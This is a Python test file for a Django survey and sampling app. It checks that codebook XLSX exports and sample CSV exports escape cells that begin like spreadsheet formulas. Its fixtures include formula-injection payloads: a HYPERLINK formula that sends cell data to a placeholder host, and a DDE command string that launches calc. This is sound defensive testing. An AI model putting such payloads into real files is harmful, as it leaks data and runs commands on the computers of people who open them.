"""Formula cells (issue 18, item 6): every CSV and XLSX writer a person's text reaches goes
through the one formula-safety function (bas.cells.safe_cell): the questionnaire codebook
.xlsx, the sample CSV download and `draw_sample --out`."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.db.models import Value
from django.db.models.functions import Concat
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts.roles import Role
from questionnaires.engine import codebook, write_codebook_xlsx
from questionnaires.engine import load_workbook as load_questionnaire
from questionnaires.services import questionnaire_version_upload
from sampling import services
from sampling.core import make_synthetic_frame
from sampling.models import FrameBusiness

DANGEROUS = ("=", "+", "-", "@")
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def _cells_of_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(cells) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS), (cell.coordinate, cell.value)


def _workbook_with_text_labels() -> bytes:
    """A questionnaire whose labels are text cells that begin like formulas (as an author
    writing '=== Section ===' or '@home' gets)."""
    book = Workbook()
    survey = book.active
    survey.title = "survey"
    survey.append(["type", "name", "label"])
    survey.append(["select_one yn", "q1", "x"])
    survey.append(["integer", "q2", "@SUM(1+1)"])
    survey["C2"].value = FORMULA
    survey["C2"].data_type = "s"  # text, as typed after an apostrophe in Excel
    choices = book.create_sheet("choices")
    for row in (["list_name", "name", "label"], ["yn", "1", "+cmd|' /C calc'!A0"],
                ["yn", "2", "-2+3"]):
        choices.append(row)
    settings = book.create_sheet("settings")
    settings.append(["form_id"])
    settings.append(["formula_test"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_codebook_labels_that_begin_like_a_formula_are_written_as_text():
    definition = load_questionnaire(_workbook_with_text_labels(), "f.xlsx")
    buffer = io.BytesIO()
    write_codebook_xlsx(codebook(definition), buffer)
    cells = list(_cells_of_xlsx(buffer.getvalue()))
    _assert_no_formula(cells)
    texts = {cell.value for cell in cells}
    assert "'" + FORMULA in texts and "'@SUM(1+1)" in texts


@pytest.mark.django_db
def test_the_codebook_download_is_formula_safe(client, users):
    version = questionnaire_version_upload(workbook=_workbook_with_text_labels(),
                                           filename="f.xlsx")
    client.force_login(users[Role.SUPERVISOR])
    response = client.get(reverse("questionnaire-codebook", args=[version.pk, "xlsx"]))
    assert response.status_code == 200
    cells = list(_cells_of_xlsx(response.content))
    _assert_no_formula(cells)
    assert "'" + FORMULA in {cell.value for cell in cells}


def _csv_cells(text: str):
    for row in csv.reader(io.StringIO(text)):
        yield from row


@pytest.mark.django_db
def test_the_sample_csv_download_is_formula_safe(client, users):
    frame = services.frame_create_synthetic(size=2000, seed=3)
    for i, mark in enumerate(DANGEROUS):
        FrameBusiness.objects.filter(frame=frame, pk__in=FrameBusiness.objects.filter(
            frame=frame).order_by("pk").values("pk")[i * 500:(i + 1) * 500]).update(
            reference=Concat(Value(mark), "reference"))
    design = services.sample_design_create(frame=frame, name="w", n=200,
                                           allocation="proportional", seed=1, replicates=2)
    sample = services.sample_draw(design=design)
    client.force_login(users[Role.ANALYST])
    for query in ("", "?released=1"):
        services.replicates_release(sample=sample, replicates=[1, 2])
        text = client.get(reverse("sample-download", args=[sample.pk]) + query
                          ).content.decode()
        cells = list(_csv_cells(text))
        assert not [c for c in cells if c.startswith(DANGEROUS)]
        assert sum(c.startswith("'") for c in cells) >= 150


def test_draw_sample_out_is_formula_safe(tmp_path):
    frame = make_synthetic_frame(3000, 5)
    frame["reference"] = [DANGEROUS[i % 4] + ref for i, ref in enumerate(frame["reference"])]
    path = tmp_path / "frame.csv"
    frame.to_csv(path, index=False)
    out = tmp_path / "sample.csv"
    call_command("draw_sample", str(path), n=300, seed=7, out=str(out), stdout=StringIO())
    cells = list(_csv_cells(out.read_text()))
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert sum(c.startswith("'") for c in cells) == 300
